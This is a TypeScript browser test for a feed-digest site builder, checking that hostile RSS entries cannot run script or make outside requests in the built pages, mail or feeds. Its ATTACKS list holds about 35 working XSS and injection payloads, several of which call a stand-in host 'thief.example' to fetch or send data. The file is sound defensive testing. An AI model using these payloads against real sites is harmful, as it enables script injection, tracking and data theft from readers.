import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import fs from 'node:fs'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Browser } from 'playwright'
import Parser from 'rss-parser'
import { assembleDigest } from '../../src/core/digest/assemble-digest.ts'
import { renderHtml } from '../../src/core/digest/render-html.ts'
import { formatIssue } from '../../src/core/issue/format-issue.ts'
import type { Item } from '../../src/core/item/item.ts'
import { take } from '../../src/core/text/problem.ts'
import { readItems } from '../../src/io/item-files.ts'
import { readSiteSettings } from '../../src/io/site-settings-file.ts'
import { writeSource } from '../../src/io/source-files.ts'
import { makeIssue, makePick, makeSource } from '../builders.ts'
import { runScript } from '../cli/run-script.ts'
import { answerFeed, startLoopbackServer } from '../io/loopback-server.ts'
import { makeTemporaryFolder } from '../io/temporary-folder.ts'
import { launchBrowser } from './browser.ts'
import { serveMeasured } from './serve-measured.ts'

const ROOT = path.resolve(import.meta.dirname, '../..')
const NOW = '2026-08-24T06:00:00Z'
/** What each attack does, where it succeeds: a name that it leaves behind, a dialog, a request. */
const DEED = "top.struck=1;alert('struck');fetch('https://thief.example/steal')"

/** Ways to have a page do what its reader did not ask for, each as HTML. */
const ATTACKS: readonly string[] = [
  `<script>${DEED}</script>`,
  `<SCRIPT SRC="https://thief.example/a.js"></SCRIPT>`,
  `<scr<script>ipt>${DEED}</scr</script>ipt>`,
  `<img src=x onerror="${DEED}">`,
  `<img src="https://thief.example/pixel.gif" width="1" height="1">`,
  `<img/src/onerror=${DEED.replaceAll(' ', '')}>`,
  `<svg onload="${DEED}"><animate onbegin="${DEED}" attributeName="x" dur="1s"></svg>`,
  `<svg><style><img src=x onerror="${DEED}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${DEED}&gt;">`,
  `<iframe srcdoc="&lt;script&gt;${DEED}&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:${DEED}"></iframe>`,
  `<object data="https://thief.example/x.swf"></object><embed src="https://thief.example/x.swf">`,
  `<link rel="stylesheet" href="https://thief.example/a.css">`,
  `<style>@import url(https://thief.example/b.css); body { background: url(https://thief.example/c.png) }</style>`,
  `<p style="background:url(https://thief.example/d.png);position:fixed;inset:0">over all</p>`,
  `<base href="https://thief.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://thief.example/">`,
  `<form action="https://thief.example/" id=f><input name=password autofocus onfocus="${DEED}"></form>`,
  `<details open ontoggle="${DEED}"><summary>more</summary></details>`,
  `<video autoplay onplay="${DEED}" src="https://thief.example/v.mp4"><source onerror="${DEED}"></video>`,
  `<body onload="${DEED}"><marquee onstart="${DEED}">x</marquee>`,
  `<a href="javascript:${DEED}" id="click">follow me</a>`,
  `<a href="JaVa&#x0A;ScRiPt&colon;${DEED}">follow me</a>`,
  `<a href="data:text/html,<script>${DEED}</script>">follow me</a>`,
  `<a href="https://fine.example/" onmouseover="${DEED}" ping="https://thief.example/ping">a fine link</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${DEED}>"></noscript>`,
  `<template><script>${DEED}</script></template><textarea><img src=x onerror="${DEED}"></textarea>`,
  `<![CDATA[<script>${DEED}</script>]]>`,
  `<!--><script>${DEED}</script>-->`,
  `"><img src=x onerror="${DEED}">`,
  `'-${DEED}-'`,
  `[follow me](javascript:${DEED}) ![](https://thief.example/e.png) <https://thief.example/> [x]: javascript:${DEED}`,
  `\`\`\`<img src=x onerror="${DEED}">\`\`\``,
  `&lt;script&gt;${DEED}&lt;/script&gt; and &amp;lt;img src=x onerror="${DEED}"&amp;gt;`,
  `{{constructor.constructor("${DEED}")()}} \${${DEED}} <%= 1 %>`,
]

const escape = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')

/** A feed with each attack in every field that text can stand in. */
function makeFeed(): string {
  const items = ATTACKS.map((attack, index) => {
    const text = escape(attack)
    const link = `https://hostile.example/${index}/?q=${encodeURIComponent(attack)}`
    return `<item><title>${text} ${index}</title><link>${escape(link)}</link><guid isPermaLink="false">${text}</guid>
      <pubDate>Thu, 20 Aug 2026 06:${String(index % 60).padStart(2, '0')}:00 GMT</pubDate><dc:creator>${text}</dc:creator>
      <category>${text}</category><enclosure url="https://hostile.example/a.mp3?${encodeURIComponent(attack)}" type="${text}" length="1"/>
      <description>${escape(`<p>Words before. ${attack} Words after.</p>`)}</description>
      <content:encoded>${escape(`<p>The lamp was lit, and the words go on for a while here. ${attack}</p><div>${attack}</div>`)}</content:encoded></item>`
  })
  return `<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
    <title>${escape(ATTACKS[0] ?? '')}</title><link>javascript:${escape(DEED)}</link>${items.join('\n')}</channel></rss>`
}

/** Every HTML page of a folder, as the path under which it is served. */
function pagesOf(dist: string): string[] {
  return fs
    .readdirSync(dist, { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith('.html'))
    .map((file) => `/${file.replaceAll(path.sep, '/').replace(/index\.html$/, '')}`)
}

describe('a feed that attacks its readers', () => {
  const folder = makeTemporaryFolder()
  const content = path.join(folder.path, 'content')
  const dist = path.join(folder.path, 'dist')
  let items: readonly Item[]
  let mail: string
  let browser: Browser
  let site: Awaited<ReturnType<typeof serveMeasured>>

  before(async () => {
    fs.mkdirSync(path.join(content, 'issues'), { recursive: true })
    fs.copyFileSync(path.join(ROOT, 'content/site.yml'), path.join(content, 'site.yml'))
    {
      await using server = await startLoopbackServer({ '/feed': answerFeed(makeFeed()) })
      writeSource(content, makeSource({ id: 'hostile', title: ATTACKS[3] ?? '', url: server.url('/feed') }))
      const state = path.join(folder.path, 'state')
      const ended = await runScript('ingest', [
        ...['--content', content, '--state', state, '--now', NOW, '--allow-network', '127.0.0.1/32'],
      ])
      assert.equal(ended.code, 0, ended.stderr)
    }
    items = readItems(content).entries.map(({ item }) => item)
    const issue = makeIssue({
      ...{ key: '2026-W34', weeks: ['2026-W34'], title: ATTACKS[0] ?? '', subject: ATTACKS[3] ?? '', preheader: '' },
      ...{ status: 'published', covers: { from: '2026-08-13T12:00:00Z', to: '2026-08-21T12:00:00Z' }, candidates: 1 },
      picks: items.map(({ id, title, url, excerpt, authors }) =>
        makePick({ id, title, url, authors, section: 'technical', source: title, blurb: excerpt }),
      ),
      body: ATTACKS.map((attack) => `${attack}\n`).join('\n'),
    })
    fs.writeFileSync(path.join(content, 'issues/2026-W34.md'), formatIssue(issue))
    mail = renderHtml(assembleDigest(issue, take(readSiteSettings(content)), undefined))
    const command = [path.join(ROOT, 'scripts/build.ts'), '--content', content, '--out', dist, '--now', NOW]
    const child = spawn(process.execPath, command, { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'] })
    let talk = ''
    for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk: Buffer) => (talk += chunk.toString()))
    const code = await new Promise((resolve) => child.on('close', resolve))
    assert.equal(code, 0, talk)
    browser = await launchBrowser()
    site = await serveMeasured(dist, path.join(ROOT, 'netlify.toml'))
  })
  after(async () => {
    await browser.close()
    await site.close()
    folder[Symbol.dispose]()
  })

  /** Opens a page, touches all that is on it, and says what happened that should not have. */
  async function visit(open: (page: Awaited<ReturnType<Browser['newPage']>>) => Promise<unknown>): Promise<string[]> {
    const context = await browser.newContext()
    const page = await context.newPage()
    const strange: string[] = []
    page.on('dialog', (dialog) => {
      strange.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    await context.route('**/*', (route) => {
      const url = route.request().url()
      if (url.startsWith(site.origin)) return route.continue()
      strange.push(`request: ${url}`)
      return route.abort()
    })
    await open(page)
    const found = await page.evaluate(() => {
      for (const element of document.querySelectorAll('*')) {
        for (const event of ['mouseover', 'focus', 'toggle', 'error', 'load']) element.dispatchEvent(new Event(event))
      }
      const links = [...document.querySelectorAll('a')].map(({ href }) => href)
      const active = 'script[src],iframe,object,embed,base,meta[http-equiv=refresh],[onerror],[onload],[onfocus],[ping]'
      return {
        struck: 'struck' in window,
        links: links.filter((href) => href !== '' && !/^(https?|mailto):/.test(href)),
        active: [...document.querySelectorAll(active)].map((element) => element.outerHTML),
        thief: [...document.querySelectorAll('[src],[srcset],[style*="thief"]')].map((element) => element.outerHTML),
      }
    })
    if (found.struck) strange.push('a script has run')
    strange.push(...found.links, ...found.active, ...found.thief.filter((html) => html.includes('thief.example')))
    await context.close()
    return strange
  }

  test('becomes items, one for each of its entries', () => {
    assert.equal(items.length, ATTACKS.length)
  })

  test('does nothing on any page of the built site: no script, no request, no dialog, no way to one', async () => {
    const pages = pagesOf(dist)
    assert.ok(pages.includes('/issues/2026-W34/') && pages.includes('/sources/hostile/'), pages.join())
    for (const name of pages) assert.deepEqual(await visit((page) => page.goto(`${site.origin}${name}`)), [], name)
  })

  test('does nothing in the mail, where no policy of ours holds', async () => {
    assert.deepEqual(await visit((page) => page.setContent(mail)), [])
  })

  test('does nothing in our feeds, in a reader that trusts us and shows them as they are', async () => {
    for (const file of ['rss.xml', 'sources/hostile/rss.xml']) {
      const parser = new Parser<unknown, { 'content:encoded'?: string; content?: string }>()
      const { items: entries } = await parser.parseString(fs.readFileSync(path.join(dist, file), 'utf8'))
      assert.ok(entries.length > 0, file)
      const shown = entries.map((entry) => entry['content:encoded'] ?? entry.content ?? '')
      assert.deepEqual(
        await visit((page) => page.setContent(`<!doctype html><main>${shown.join('\n')}</main>`)),
        [],
        file,
      )
    }
  })

  test('is really an attack: shown as it came, it strikes', async () => {
    const strange = await visit((page) => page.setContent(`<!doctype html><main>${ATTACKS[3] ?? ''}</main>`))
    assert.ok(strange.includes('dialog: struck') && strange.includes('a script has run'), strange.join('\n'))
  })
})
